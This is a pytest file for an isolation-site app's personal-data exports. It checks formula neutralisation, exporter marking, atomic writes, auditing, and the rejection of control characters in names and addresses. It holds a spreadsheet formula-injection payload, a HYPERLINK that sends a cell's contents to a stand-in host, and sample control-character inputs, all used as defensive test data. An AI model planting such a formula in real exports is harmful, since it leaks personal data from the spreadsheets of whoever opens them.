"""Every exit of personal data is marked and honest: formula cells neutralised on standard
output, csv and xlsx; who made an export or printout and when; written to a temporary file
and renamed; audited only once complete (a full disk leaves no file and no audit entry).
Names, addresses and notes refuse control characters."""
from __future__ import annotations

import csv
import io
import subprocess
from datetime import date

import openpyxl
import pytest
from pypdf import PdfReader

from isolation_desk.domain.errors import DomainError
from isolation_desk.domain.registration import validate_registration
from isolation_desk.messages import describe

from .helpers import DEMO_USER, run, run_as, site_connection

EVIL = '=HYPERLINK("http://x.example/?d="&A1,"点这里")'


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    path = tmp_path_factory.mktemp("marked") / "site.sqlite"
    r = run("demo", "--db", str(path), "--rooms", "40", "--seed", "2")
    assert r.exit_code == 0, r.output
    conn = site_connection(path)
    # a name that came in before names were checked (or from an old import)
    conn.execute("UPDATE people SET name = ? WHERE id = (SELECT min(person_id) FROM stays "
                 "WHERE status = 'in_isolation')", (EVIL,))
    conn.commit()
    conn.close()
    return path


def _audits(path, action="export_personal") -> int:
    conn = site_connection(path)
    try:
        return conn.execute("SELECT count(*) FROM audit WHERE action = ?", (action,)).fetchone()[0]
    finally:
        conn.close()


def test_csv_on_standard_output_is_neutralised_and_marked(site):
    r = run_as("export", "occupants", "--db", str(site), "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.output)))
    assert rows[0][0].startswith("导出 Exported by") and DEMO_USER in rows[0][0]
    assert rows[1][:3] == ["id_type", "id_number", "name"]
    names = [row[2] for row in rows[2:]]
    assert "'" + EVIL in names and EVIL not in names


def test_csv_and_xlsx_files_are_neutralised_and_marked(site, tmp_path):
    out = tmp_path / "occupants.csv"
    assert run_as("export", "occupants", "--db", str(site), "--format", "csv", "--out", str(out)).exit_code == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert DEMO_USER in rows[0][0]
    assert "'" + EVIL in [row[2] for row in rows[2:]]
    out = tmp_path / "occupants.xlsx"
    r = run_as("export", "occupants", "--db", str(site), "--format", "xlsx", "--out", str(out))
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(out)
    names = [c.value for c in wb.active["C"][1:]]
    assert "'" + EVIL in names and EVIL not in names
    assert DEMO_USER in wb.properties.creator
    assert "Exported by" in wb.properties.description


@pytest.fixture
def full_disk(tmp_path):
    """A 4 KB file system (tmpfs; CI runs as root): an export of the site does not fit."""
    folder = tmp_path / "usb"
    folder.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4k", "tmpfs", str(folder)],
                          capture_output=True)
    if done.returncode != 0:
        pytest.skip("mounting a tmpfs needs root (CI runs as root)")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


def test_an_export_onto_a_full_disk_leaves_no_file_and_no_audit_entry(site, full_disk):
    out = full_disk / "occupants.csv"
    before = _audits(site)
    r = run_as("export", "occupants", "--db", str(site), "--format", "csv", "--all", "--out", str(out))
    assert r.exit_code == 2
    assert "error:" in r.output
    assert list(full_disk.iterdir()) == []  # neither the file nor a temporary one
    assert _audits(site) == before


def test_a_completed_export_is_audited_under_the_person(site, tmp_path):
    before = _audits(site)
    out = tmp_path / "o.json"
    assert run_as("export", "occupants", "--db", str(site), "--out", str(out)).exit_code == 0
    conn = site_connection(site)
    actor, = conn.execute("SELECT actor FROM audit WHERE action = 'export_personal' "
                          "ORDER BY id DESC LIMIT 1").fetchone()
    conn.close()
    assert _audits(site) == before + 1 and actor == DEMO_USER


def test_printouts_of_personal_data_say_who_printed_them(site, tmp_path):
    out = tmp_path / "roster.pdf"
    r = run_as("print", "roster", "--db", str(site), "--out", str(out), "--lang", "en")
    assert r.exit_code == 0, r.output
    text = PdfReader(out).pages[0].extract_text()
    assert f"by 演示负责人 ({DEMO_USER})" in text or f"by {DEMO_USER}" in text
    assert [p.name for p in tmp_path.iterdir()] == ["roster.pdf"]


@pytest.mark.parametrize("field,value", [
    ("name", "张\x00三"), ("name", "李四\x1b[2J"), ("registered_address", "北京路\x07号"),
    ("notes", "正常\u202e文本"), ("current_address", "A\x7fB")])
def test_names_addresses_and_notes_refuse_control_characters(field, value):
    fields = {"name": "张三", "id_type": "passport", "id_number": "E12345678", "category": "close_contact",
              "last_exposure_date": "2022-11-18", field: value}
    with pytest.raises(DomainError) as err:
        validate_registration(fields, date(2022, 11, 20))
    assert err.value.code == "text_control_character" and err.value.field == field
    words = describe(err.value, "en")
    assert "control character" in words and "Type it again" in words
    assert "控制字符" in describe(err.value, "zh_CN")


def test_tabs_and_line_breaks_in_an_address_become_spaces():
    reg = validate_registration({"name": "张三", "id_type": "passport", "id_number": "E12345678",
                                 "category": "close_contact", "last_exposure_date": "2022-11-18",
                                 "current_address": "北京路\t1号\r\n2单元"}, date(2022, 11, 20))
    assert reg.current_address == "北京路 1号 2单元"
